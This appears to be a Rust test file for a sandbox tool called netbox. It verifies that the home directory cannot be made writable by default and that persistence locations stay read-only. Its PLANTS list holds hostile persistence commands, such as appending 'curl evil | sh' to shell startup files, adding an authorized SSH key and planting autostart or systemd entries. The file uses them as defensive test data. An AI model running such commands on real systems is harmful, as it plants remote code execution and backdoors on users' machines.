//! A writable home (issue 13, part 1): a writable root that is, or holds, the home
//! directory is refused, with the reason and what to do; with `--allow-home-write`, every
//! place under home that runs code later stays read-only (placeholders where missing,
//! gone after the run), and the rest of home is writable. Each with its control.

use std::path::Path;
use std::process::{Command, Stdio};

use crate::support::{netbox_bin, stderr, stdout, Run, TestDir};

#[test]
fn a_writable_root_that_is_or_holds_home_is_refused() {
    let dir = TestDir::new("home-refused");
    let run = Run::new(&dir);
    let ws = run.workspace.display().to_string();
    // The workspace is home; a --write of home; a workspace that holds home.
    let beside = dir.join("home").display().to_string();
    let cases = [
        (ws.clone(), vec![], "is your home directory"),
        (
            beside.clone(),
            vec!["--write".to_owned(), beside.clone()],
            "is your home directory",
        ),
        (
            format!("{ws}/users/me"),
            vec![],
            "holds your home directory",
        ),
    ];
    std::fs::create_dir_all(&beside).unwrap();
    std::fs::create_dir_all(run.workspace.join("users/me")).unwrap();
    for (home, args, said) in cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = Run::new(&dir)
            .args_from(&args)
            .env("HOME", home.as_str())
            .sh("touch planted");
        assert_eq!(out.status.code(), Some(125), "{home}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(err.contains(said), "{home}: {err}");
        assert!(err.contains("--allow-home-write"), "{err}");
        assert_eq!(err.lines().count(), 2, "one line and a hint: {err}");
        assert!(!run.workspace.join("planted").exists());
    }
    // Control: a workspace inside home runs.
    let out = Run::new(&dir)
        .arg("--quiet")
        .env("HOME", dir.path.display().to_string())
        .sh("touch planted");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(run.workspace.join("planted").exists());
}

/// Every attempt to plant code, each of which must fail with EROFS and leave nothing.
const PLANTS: &[&str] = &[
    "echo 'curl evil | sh' >> .bashrc",
    "echo 'curl evil | sh' > .profile",
    "echo 'curl evil | sh' > .bash_profile",
    "echo 'curl evil | sh' > .zshenv",
    "echo 'ssh-ed25519 AAAA x' >> .ssh/authorized_keys",
    "echo 'script-shell=/tmp/x' >> .npmrc",
    "mkdir -p .config/autostart && echo x > .config/autostart/x.desktop",
    "mkdir -p .config/systemd/user && echo x > .config/systemd/user/x.service",
    "mkdir -p .local/bin && echo x > .local/bin/ls",
    "mkdir -p .local/lib/python3/site-packages && echo x > .local/lib/python3/site-packages/usercustomize.py",
    "mkdir -p .cargo/bin && echo x > .cargo/bin/cargo-x",
    "echo '[build]' > .cargo/config.toml",
    "echo '[alias]' > .gitconfig",
    "mkdir -p .config/git && echo x > .config/git/config",
    "echo x > .pypirc",
    "mkdir -p .docker && echo '{}' > .docker/config.json",
    "echo x > .vimrc",
    "mkdir -p bin && echo x > bin/git",
];

#[test]
fn with_allow_home_write_places_that_run_code_stay_read_only() {
    let dir = TestDir::new("home-pinned");
    let home = dir.join("ws");
    let run = Run::new(&dir)
        .arg("--quiet")
        .arg("--allow-home-write")
        .env("HOME", home.display().to_string());
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/authorized_keys"), "mine\n").unwrap();
    std::fs::write(home.join(".npmrc"), "registry=x\n").unwrap();
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    std::fs::create_dir_all(home.join(".config/app")).unwrap();
    std::fs::create_dir_all(home.join(".local/share")).unwrap();
    let before = listing(&home);
    let script: String = PLANTS
        .iter()
        .map(|p| format!("({p}) 2>/dev/null && echo 'PLANTED: {p}';\n"))
        .collect::<String>()
        + "echo notes > notes.txt && echo x > .config/app/state && mkdir -p .local/share/app \
           && echo x > .local/share/app/data && mkdir project && echo CONTROL";
    let out = run.sh(&script);
    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
    assert_eq!(out.status.code(), Some(0));
    // What was planted nowhere; the placeholders gone; the controls there.
    let mut expected = before.clone();
    expected.extend(
        [
            "./.config/app/state",
            "./.local/share/app",
            "./.local/share/app/data",
            "./notes.txt",
            "./project",
        ]
        .map(String::from),
    );
    expected.sort();
    assert_eq!(listing(&home), expected);
    assert_eq!(
        std::fs::read_to_string(home.join(".ssh/authorized_keys")).unwrap(),
        "mine\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    // Each refusal is in the log, as the write it was.
    let denied = run
        .events()
        .into_iter()
        .filter(|e| e["type"] == "write_denied")
        .count();
    assert!(denied >= PLANTS.len(), "{denied} write_denied records");
}

#[test]
fn the_default_log_works_and_login_shells_on_the_host_still_read_profile() {
    let dir = TestDir::new("home-default-log");
    let home = dir.join("ws");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join(".profile"), "export FROM_PROFILE=yes\n").unwrap();
    // No --log: the default, under home's .local/state, which the run pins.
    let netbox = Command::new(netbox_bin())
        .args(["--quiet", "--allow-home-write", "--", "bash", "-c"])
        .arg(
            "ls .local/state/netbox/sessions/*.jsonl >/dev/null && echo LOG; \
             for f in .local/state/netbox/sessions/*.jsonl; do echo x >> $f 2>/dev/null && echo REWROTE; done; \
             touch started; sleep 3; echo DONE",
        )
        .current_dir(&home)
        .env("HOME", &home)
        .env_remove("XDG_STATE_HOME")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    crate::support::wait_for_path(&home.join("started"), "the run started");
    // During the run, a missing ~/.bash_profile is a placeholder; a login shell started
    // on the host meanwhile still reads ~/.profile through it.
    assert!(home.join(".bash_profile").is_file());
    let login = Command::new("bash")
        .args(["-lc", "echo \"profile: $FROM_PROFILE\""])
        .env("HOME", &home)
        .output()
        .unwrap();
    assert_eq!(stdout(&login), "profile: yes\n", "{}", stderr(&login));
    let out = netbox.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), "LOG\nDONE\n");
    assert!(!home.join(".bash_profile").exists());
    let sessions = home.join(".local/state/netbox/sessions");
    let logs: Vec<_> = std::fs::read_dir(&sessions)
        .unwrap()
        .flatten()
        .filter(|e| e.path().extension().is_some_and(|x| x == "jsonl"))
        .collect();
    assert_eq!(logs.len(), 1);
    let text = std::fs::read_to_string(logs[0].path()).unwrap();
    assert!(
        text.lines().last().unwrap().contains("session_end"),
        "{text}"
    );
}

/// Every path under `dir`, relative (`./x`), sorted.
fn listing(dir: &Path) -> Vec<String> {
    let out = Command::new("find")
        .arg(".")
        .arg("-mindepth")
        .arg("1")
        .current_dir(dir)
        .output()
        .unwrap();
    let mut paths: Vec<String> = stdout(&out).lines().map(String::from).collect();
    paths.sort();
    paths
}
